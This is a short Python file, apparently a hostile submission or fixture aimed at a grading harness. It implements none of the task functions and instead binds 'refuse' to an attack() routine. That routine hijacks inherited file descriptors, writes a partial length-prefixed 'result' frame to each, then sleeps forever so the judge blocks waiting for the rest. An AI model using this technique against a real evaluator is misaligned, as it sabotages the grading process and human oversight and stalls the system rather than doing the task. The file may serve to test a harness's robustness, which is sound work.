# aim: send half a frame and fall silent, holding the line, so that the judge waits for the rest
import os
import socket
import time


def attack(*args):
    for fd in range(3, 64):
        try:
            with socket.socket(fileno=os.dup(fd)) as line:
                line.sendall(b"\0\x3f\0\0" + b'{"op":"result","id":')
        except OSError:
            pass
    while True:
        time.sleep(60)


def todo(*args):
    raise NotImplementedError("TODO")


refuse = attack
double = join = apply_all = Tally = todo
